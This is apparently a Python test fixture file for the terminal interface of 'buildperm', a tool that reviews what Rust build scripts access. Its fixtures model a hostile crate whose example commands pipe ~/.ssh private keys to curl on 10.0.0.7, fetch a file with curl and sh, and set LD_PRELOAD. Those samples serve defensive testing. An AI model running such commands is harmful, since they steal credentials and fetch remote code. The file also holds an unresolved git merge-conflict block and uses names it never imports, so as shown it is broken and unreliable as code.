"""An application over a real review and real edits, for the tests of the screens."""

from __future__ import annotations

import html
import re
from pathlib import Path
from types import MappingProxyType
from typing import TYPE_CHECKING

import pytest

from buildperm.policy import editor, manifest
from buildperm.policy.comparison import Comparison
from buildperm.policy.decision import Answer, Entry
from buildperm.policy.proposal import Proposal
from buildperm.policy.review import Review
from buildperm.tui.app import ReviewApp
from buildperm.tui.widgets.crates import CrateTree
from buildperm.tui.widgets.sheet import Sheet
from tests.tui.proposals import SUMMARY, realistic, updated

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable, Mapping, Sequence

    from textual.pilot import Pilot

    from buildperm.errors import BuildpermError
    from buildperm.presentation.front_end import Failure, Progress, Verify
    from buildperm.presentation.front_end import ReviewEnd as Ending

<<<<<<< ours
=======
SCRIPT = "build-script-build"


def access(
    kind: Kind,
    target: str,
    *,
    count: int = 1,
    outcome: Outcome = Outcome.DONE,
    chain: Sequence[str] = (),
    example: str = "",
    sensitive: str = "",
) -> Access:
    """Make an access by the build script, or by a process below it."""
    return Access(
        kind, target, outcome, count, 1_000, 2_000, ((SCRIPT, *chain),), example, sensitive
    )


def proposal(
    crate: str,
    version: str,
    title: str,
    risk: Risk,
    note: str,
    evidence: Sequence[Access],
    *ladder: Choice,
    locked: str = "",
    reason: Reason = Reason.ASKED,
) -> Proposal:
    """Make a proposal; without a ladder the accesses themselves are the only rung."""
    exact = Choice("exactly this", tuple(Rule(each.kind, each.target) for each in evidence))
    digest = hashlib.sha256(f"{crate} {title}".encode()).hexdigest()[:12]
    return Proposal(
        digest,
        crate,
        version,
        title,
        ladder or (exact,),
        risk,
        (note,),
        tuple(evidence),
        locked,
        reason,
    )


def exactly(kind: Kind, *patterns: str, title: str = "exactly this") -> Choice:
    """Make the narrowest rung."""
    return Choice(title, tuple(Rule(kind, pattern) for pattern in patterns))


def wider(kind: Kind, pattern: str, title: str, widening: str) -> Choice:
    """Make a wider rung."""
    return Choice(title, (Rule(kind, pattern),), widening=widening)


def preset(name: str, widening: str) -> Choice:
    """Make the rung of a preset."""
    return Choice(f"preset {name}", (), preset=name, widening=widening)


def realistic() -> list[Proposal]:
    """Return what a workspace with four well-known crates and a bad one asks for."""
    cc = preset("cc", "Also the archiver, the linker and `xcrun`, and every system header.")
    compiler = [
        access(Kind.EXEC, "cc", count=64, chain=("cc",),
               example="cc -O3 -ffunction-sections -fPIC -m64 -I include -c sqlite3.c"),
        access(Kind.EXEC, "ar", count=2, chain=("ar",), example="ar cq libsqlite3.a sqlite3.o"),
    ]  # fmt: skip
    return [
        proposal("openssl-sys", "0.9.104", "run pkg-config", Risk.MEDIUM,
                 "It runs a program of this machine that is found through PATH.",
                 [access(Kind.EXEC, "pkg-config", count=6, chain=("pkg-config",),
                         example="pkg-config --libs --cflags openssl")],
                 exactly(Kind.EXEC, "pkg-config", title="the program pkg-config"),
                 preset("pkg-config", "Also pkgconf, and every .pc file of the system.")),
        proposal("openssl-sys", "0.9.104", "run perl", Risk.HIGH,
                 "An interpreter does whatever the text says that it is given.",
                 [access(Kind.EXEC, "perl", chain=("make", "sh", "perl"),
                         example="perl ./Configure linux-x86_64 no-shared")]),
        proposal("openssl-sys", "0.9.104", "see 3 variables", Risk.LOW,
                 "Names of this crate's own: they say where OpenSSL is.",
                 [access(Kind.ENV, name, count=2, outcome=Outcome.FAILED)
                  for name in ("OPENSSL_DIR", "OPENSSL_LIB_DIR", "OPENSSL_STATIC")],
                 exactly(Kind.ENV, "OPENSSL_DIR", "OPENSSL_LIB_DIR", "OPENSSL_STATIC",
                         title="these 3 variables"),
                 wider(Kind.ENV, "OPENSSL_*", "every variable that begins with OPENSSL_",
                       "Also 4 that are set here and were not asked for.")),
        proposal("openssl-sys", "0.9.104", "read /etc/ssl/openssl.cnf", Risk.LOW,
                 "A file of the system that everybody may read.",
                 [access(Kind.READ, "/etc/ssl/openssl.cnf", chain=("openssl",))],
                 exactly(Kind.READ, "/etc/ssl/openssl.cnf", title="this file"),
                 wider(Kind.READ, "/etc/ssl/*", "every file in /etc/ssl",
                       "Also 2 files that were not seen."),
                 wider(Kind.READ, "/etc/ssl/**", "everything below /etc/ssl",
                       "Also 141 files that were not seen, the folder `private` left out.")),
        proposal("ring", "0.17.8", "run the C compiler", Risk.LOW,
                 "A compiler reads sources and writes objects; it is held to the same grants.",
                 compiler, exactly(Kind.EXEC, "cc", "ar", title="the programs cc and ar"), cc),
        proposal("libsqlite3-sys", "0.30.1", "run the C compiler", Risk.LOW,
                 "A compiler reads sources and writes objects; it is held to the same grants.",
                 compiler, exactly(Kind.EXEC, "cc", "ar", title="the programs cc and ar"), cc),
        proposal("libsqlite3-sys", "0.30.1", "see SQLITE_MAX_VARIABLE_NUMBER", Risk.LOW,
                 "A name of this crate's own.",
                 [access(Kind.ENV, "SQLITE_MAX_VARIABLE_NUMBER", outcome=Outcome.FAILED)]),
        proposal("zstd-sys", "2.0.13", "run the C compiler", Risk.LOW,
                 "A compiler reads sources and writes objects; it is held to the same grants.",
                 compiler, exactly(Kind.EXEC, "cc", "ar", title="the programs cc and ar"), cc),
        proposal("zstd-sys", "2.0.13", "link with -Wl,--exclude-libs", Risk.HIGH,
                 "An argument of the linker can name a program that the linker then runs.",
                 [access(Kind.DIRECTIVE, "rustc-link-arg=-Wl,--exclude-libs,ALL",
                         outcome=Outcome.REFUSED)]),
        proposal("telemetry-helper", "1.4.2", "connect to 10.0.0.7:443", Risk.CRITICAL,
                 "It also read a secret: what it read could leave this machine.",
                 [access(Kind.NET, "10.0.0.7:443", count=3, outcome=Outcome.REFUSED,
                         chain=("sh", "curl"), example="curl -s --data @- https://10.0.0.7/v1")],
                 locked="Network grants are not possible in this version."),
        proposal("telemetry-helper", "1.4.2", "read a private key", Risk.CRITICAL,
                 "Whoever has the key can log in elsewhere as you.",
                 [access(Kind.READ, "$HOME/.ssh/id_ed25519", outcome=Outcome.REFUSED,
                         chain=("sh", "cat"), example="/home/ann/.ssh/id_ed25519",
                         sensitive="a private key of SSH")],
                 locked="It is in the sensitive tier: grant it by hand, by its exact path and "
                        "with a reason."),
        proposal("telemetry-helper", "1.4.2", "run a shell", Risk.HIGH,
                 "A shell does whatever the text says that it is given.",
                 [access(Kind.EXEC, "/usr/bin/sh", count=2, chain=("sh",),
                         example="sh -c cat %7E/.ssh/id_* | curl -s --data @- https://10.0.0.7/v1")]),
        proposal("telemetry-helper", "1.4.2", "write into the workspace", Risk.HIGH,
                 "What it writes there is compiled, committed or run later.",
                 [access(Kind.WRITE, "$WORKSPACE/src/lib.rs", outcome=Outcome.REFUSED)],
                 exactly(Kind.WRITE, "$WORKSPACE/src/lib.rs", title="this file"),
                 wider(Kind.WRITE, "$WORKSPACE/src/*", "every file in $WORKSPACE/src",
                       "Also 11 files that were not touched.")),
        proposal("telemetry-helper", "1.4.2", "set LD_PRELOAD for rustc", Risk.CRITICAL,
                 "rustc and every program it starts would load that library first.",
                 [access(Kind.DIRECTIVE, "rustc-env=LD_PRELOAD=$OUT_DIR/libhook.so",
                         outcome=Outcome.REFUSED)],
                 locked="No grant opens this: a name that steers tools is always refused."),
    ]  # fmt: skip


SUMMARY = "4 of 212 build scripts need you: 5 decisions about 7 accesses."

BEFORE = b"""\
use std::env;

fn main() {
    println!("cargo::rerun-if-changed=build.rs");
    let version = probe(&env::var("RUSTC").unwrap());
    if version >= 77 {
        println!("cargo::rustc-cfg=has_c_str");
    }
}
"""
AFTER = b"""\
use std::env;
use std::process::Command;

fn main() {
    println!("cargo::rerun-if-changed=build.rs");
    let version = probe(&env::var("RUSTC").unwrap());
    if version >= 80 {
        println!("cargo::rustc-cfg=has_c_str");
    }
    let told = Command::new("git").args(["describe", "--tags", "--always", "--dirty"]).output();
    println!("cargo::rustc-env=ARRAYREF_DESCRIBED={:?}", told.map(|out| out.stdout).ok());
}
"""


def updated() -> tuple[list[Proposal], dict[tuple[str, str], Comparison]]:
    """Return what a review after an update shows: every reason, and how scripts differ."""
    git = [access(Kind.EXEC, "git", chain=("git",), example="git describe --tags --always --dirty")]
    runs = ("run git", Risk.MEDIUM, "git reads whatever its settings say.", git)
    proto = [access(Kind.READ, f"$WORKSPACE/proto/{name}.proto") for name in ("pay", "user")]
    beside = wider(
        Kind.READ,
        "$WORKSPACE/proto/**",
        "everything that `read $WORKSPACE/proto/**` covers",
        "It is granted already, and allows more than what was seen.",
    )
    dropper = [
        access(
            Kind.EXEC,
            "curl",
            outcome=Outcome.REFUSED,
            chain=("sh", "curl"),
            example="curl -s https://10.0.0.7/x -o x",
        ),
        access(Kind.EXEC, "sh", chain=("sh",), example="sh -c curl -s https://10.0.0.7/x -o x"),
    ]
    proposals = [
        proposal("arrayref-helper", "0.1.3", "run curl, sh", Risk.HIGH,
                 "It talks to the network.", dropper),
        proposal("atomic-shim", "1.0.0", "is new, and stays within the baseline", Risk.LOW,
                 "It got into the graph by app → tokio → atomic-shim.", [],
                 Choice("nothing beyond the baseline", ()), locked="There is nothing to decide.",
                 reason=Reason.NEWCOMER),
        proposal("arrayref", "0.3.10", *runs),
        proposal("prost-build", "0.14.2", "new, but already allowed by `$WORKSPACE/proto/**`: read "
                 "2 files below $WORKSPACE/proto", Risk.LOW, "It is part of your workspace.",
                 proto, beside, reason=Reason.COVERED),
        proposal("prost-build", "0.14.2", *runs),
        proposal("shadow-rs", "1.5.0", *runs),
        proposal("shadow-rs", "1.5.0", "see the environment variable CI_JOB", Risk.LOW,
                 "An ordinary variable, read only.", [access(Kind.ENV, "CI_JOB")]),
        proposal("shadow-rs", "1.5.0", "made no use of exec `perl`", Risk.HIGH,
                 "`perl`: it runs whatever text it is given.", [],
                 exactly(Kind.EXEC, "perl", title="exec perl"), reason=Reason.UNUSED),
        proposal("gone-sys", "", "is not in Cargo.lock any more", Risk.MEDIUM,
                 "`ld`: linkers are large programs.", [],
                 exactly(Kind.EXEC, "ld", title="its whole table"), reason=Reason.UNUSED),
    ]  # fmt: skip
    done = [Seen(Kind.EXEC, "git", Outcome.DONE)]
    protos = [Seen(Kind.READ, each.target, Outcome.DONE) for each in proto]
    perl = Seen(Kind.EXEC, "perl", Outcome.DONE)
    pay = Seen(Kind.READ, "$WORKSPACE/proto/old.proto", Outcome.DONE)
    bad = [Seen(each.kind, each.target, each.outcome) for each in dropper]
    compared = [
        Comparison(
            "arrayref-helper", "0.1.3", "", ("app", "blake3", "arrayref", "arrayref-helper"),
            ("no build script of it was ever reviewed",), tuple(bad), (), (),
            (SourceChange("build.rs", None, b'fn main() {\n    fetch("https://10.0.0.7/x");\n}\n'),),
        ),
        Comparison(
            "atomic-shim", "1.0.0", "", ("app", "tokio", "atomic-shim"),
            ("no build script of it was ever reviewed",), (), (), (),
            (SourceChange("build.rs", None, b"fn main() {}\n"),),
        ),
        Comparison(
            "arrayref", "0.3.10", "0.3.9", ("app", "blake3", "arrayref"),
            ("was 0.3.9", "cc 1.0.83 -> 1.2.1"), tuple(done), (), (),
            (SourceChange("build.rs", BEFORE, AFTER),),
        ),
        Comparison(
            "prost-build", "0.14.2", "0.14.1", ("app", "prost-build"), ("was 0.14.1",),
            (*done, *protos), (), (pay,), (),
            "those of 0.14.1 are not on this machine any more",
        ),
        Comparison(
            "shadow-rs", "1.5.0", "1.5.0", ("app", "shadow-rs"), ("features: + tokio, - default",),
            (*done, Seen(Kind.ENV, "CI_JOB", Outcome.DONE)), (perl,), (pay,),
        ),
    ]  # fmt: skip
    return proposals, {(each.crate, each.version): each for each in compared}

>>>>>>> theirs

@pytest.fixture
def after_update() -> ReviewBench:
    """Make an application over a review after an update."""
    proposals, comparisons = updated()
    return ReviewBench(
        proposals, comparisons=comparisons, heading="review  shop", summary=SUMMARY, scripts=212
    )


@pytest.fixture
def proposals() -> list[Proposal]:
    """Make the proposals of the realistic workspace."""
    return realistic()


MANIFEST = b'[package]\nname = "app"\nversion = "0.1.0"\n\n[dependencies]\nring = "0.17"\n'


class Clock:
    """A clock that stands still unless it is moved; each reading moves it by `step_s`."""

    def __init__(self, step_s: float) -> None:
        self.now_s = 0.0
        self.step_s = step_s

    def __call__(self) -> float:
        self.now_s += self.step_s
        return self.now_s


class ReviewBench:
    """An application over a real review and real edits, with everything that it was told."""

    def __init__(
        self,
        proposals: Iterable[Proposal],
        *,
        failures: Sequence[Failure] = (),
        step_s: float = 1.0,
        scripts: int = 23,
        journal: Callable[[Entry], None] | None = None,
        verify: Verify | None = None,
        comparisons: Mapping[tuple[str, str], Comparison] = MappingProxyType({}),
        heading: str = "learn",
        summary: str = "",
    ) -> None:
        self.review = Review(proposals)
        self.entries: list[Entry] = []
        self.verified: list[bytes] = []
        self.failures = failures
        self.trouble: BuildpermError | None = None  # What making the edit fails with.
        self.clock = Clock(step_s)
        self.app = ReviewApp(
            self.review,
            preview=self.preview,
            verify=verify or self.verify,
            journal=journal or self.entries.append,
            comparisons=comparisons,
            heading=heading,
            summary=summary,
            scripts=scripts,
            clock=self.clock,
        )

    def preview(self) -> tuple[bytes, bytes]:
        """Make the edit that the decisions amount to."""
        if self.trouble is not None:
            raise self.trouble
        path = Path("Cargo.toml")
        after = MANIFEST
        for key, grants in self.review.grants(manifest.read(MANIFEST, path)).items():
            after = editor.with_grants(after, key, grants, path)
        return MANIFEST, after

    def verify(self, progress: Progress) -> Sequence[Failure]:
        """Pretend to nothing: report one script run, and the failures that were set."""
        self.verified.append(self.preview()[1])
        progress(1, 1, "openssl-sys")
        return self.failures

    def answers(self) -> dict[str, str]:
        """Return what has been answered, by title."""
        return {
            each.title: str(self.review.decision(each.id).answer)
            for each in self.review.proposals
            if self.review.decision(each.id).answer is not Answer.UNDECIDED
        }

    def tree(self) -> CrateTree:
        """Return the tree of the inbox."""
        return self.app.screen.query_one("#tree", CrateTree)

    def displays(self, selector: str) -> bool:
        """Tell whether a widget of the current screen is displayed."""
        return self.app.screen.query_one(selector).display

    def is_at(self, screen: type[object]) -> bool:
        """Tell whether the current screen is of this kind."""
        return isinstance(self.app.screen, screen)

    def outcome(self) -> Ending | None:
        """Return how the review ended; None while it has not."""
        return self.app.return_value

    def under_cursor(self) -> str:
        """Return the title of the proposal that the cursor is on; empty on a crate."""
        proposal = self.tree().proposal
        return proposal.title if proposal is not None else ""

    def rung(self) -> int:
        """Return the rung that is chosen for the proposal that the cursor is on."""
        proposal = self.tree().proposal
        assert proposal is not None
        return self.review.decision(proposal.id).rung

    def text(self, selector: str) -> str:
        """Return all lines of a sheet of the current screen."""
        sheet = self.app.screen.query_one(selector, Sheet)
        cells = sheet.scrollable_content_region.width
        lines = (sheet.line(number, cells) for number in range(sheet.count(cells)))
        return "\n".join(
            "".join(text for text, _ in (*line.left, (" ", ""), *line.right)) for line in lines
        )

    async def until(self, pilot: Pilot[Ending], holds: Callable[[], bool]) -> None:
        """Let the application go on until something holds; it fails where it never does."""
        for _ in range(100):
            if holds():
                return
            await pilot.pause()
        raise AssertionError("it never came to hold")

    def pixels(self) -> str:
        """Return the text of the whole screen as the terminal would get it."""
        picture = re.sub(r"<style.*?</style>|<title>.*?</title>", "", self.app.export_screenshot())
        return html.unescape(re.sub(r"<[^>]+>", "", picture)).replace("\xa0", " ")


@pytest.fixture
def bench(proposals: list[Proposal]) -> ReviewBench:
    """Make an application over the realistic workspace, where no key comes too early."""
    return ReviewBench(proposals)


@pytest.fixture
def make_bench() -> type[ReviewBench]:
    """Return the class, for other proposals and other circumstances."""
    return ReviewBench
